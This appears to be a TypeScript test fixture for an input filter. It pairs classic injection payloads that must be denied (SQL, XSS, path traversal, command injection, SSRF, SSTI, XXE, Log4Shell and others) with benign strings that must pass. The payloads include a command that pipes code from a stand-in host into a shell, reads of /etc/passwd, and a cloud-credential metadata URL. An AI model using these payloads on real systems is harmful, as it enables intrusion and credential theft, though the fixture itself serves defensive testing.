/** Classic attacks, by class. Each must be denied alone and inside a sentence. */
export const attacks: Record<string, string[]> = {
  sqli: [
    "' OR '1'='1",
    "' or 1=1 --",
    "1 UNION SELECT password FROM users--",
    "admin'--",
    "1; DROP TABLE users",
    "1' AND SLEEP(5)#",
  ],
  xss: [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(document.cookie)>',
    "javascript:alert(1)",
  ],
  "path-traversal": ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd"],
  rce: ["; cat /etc/passwd", "| whoami; id", "$(curl http://evil.example/x | sh)", "`id`; ls -la /"],
  ssrf: [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://127.0.0.1:6379/",
    "gopher://127.0.0.1:25/_HELO",
  ],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template for others than this file
  ssti: ["{{7*7}}", "${{7*7}}", "{{config.__class__.__init__.__globals__}}", "<%= 7*7 %>"],
  xxe: ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
  ldap: ["*)(uid=*))(|(uid=*", "admin)(&(password=*))"],
  nosql: ['{"$ne":null}', '{"$where":"sleep(1000)"}', "username[$ne]=x"],
  "header-injection": ["x\r\nSet-Cookie: sid=1", "en\r\nLocation: https://evil.example"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template for others than this file
  log4shell: ["${jndi:ldap://x/a}", "${${lower:j}ndi:rmi://evil.example/a}"],
};

/** What people write, and what programs send. Each must pass in `prevent`. */
export const ordinary = [
  "It's 5 o'clock; don't be late, we're leaving",
  "Please select a colour from the list and update my order",
  "Drop the table off at O'Brien's, or leave it where you like",
  "I'd like the <b>blue</b> one, not the <i>red</i> one",
  "The union of workers will vote and select a new chair",
  "Insert coin, then delete the old entry from the group by the door",
  "Rock 'n' roll isn't dead -- it just smells funny",
  "5 > 3 and 2 < 4, isn't it? 100% sure!",
  "Smith & Sons; Jones | Partners (est. 1998)",
  "Where can I order by phone? Having trouble with your site.",
  "C:\\Users\\kim\\Documents\\report.docx",
  "https://www.example.org/products?id=12&ref=home#reviews",
  "kim.o'hara+news@example.co.uk",
  "f47ac10b-58cc-4372-a567-0e02b2c3d479",
  "p@$$w0rd!#2024'x",
  "xK9#mP2$vL&qR*7!",
  "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlLW9mLW5vdGhpbmc",
  "Ærøskøbing, Łódź, 東京, Αθήνα, Москва",
  "const total = items.reduce((sum, item) => sum + item.price, 0);",
  "Meet me at 127 Main Street, apt. 4; ring the bell (twice)",
  "*",
  " 1",
  "null",
  "password",
  "a=1;b=2",
  '{"size": "XL", "note": "it\'s a gift"}',
];
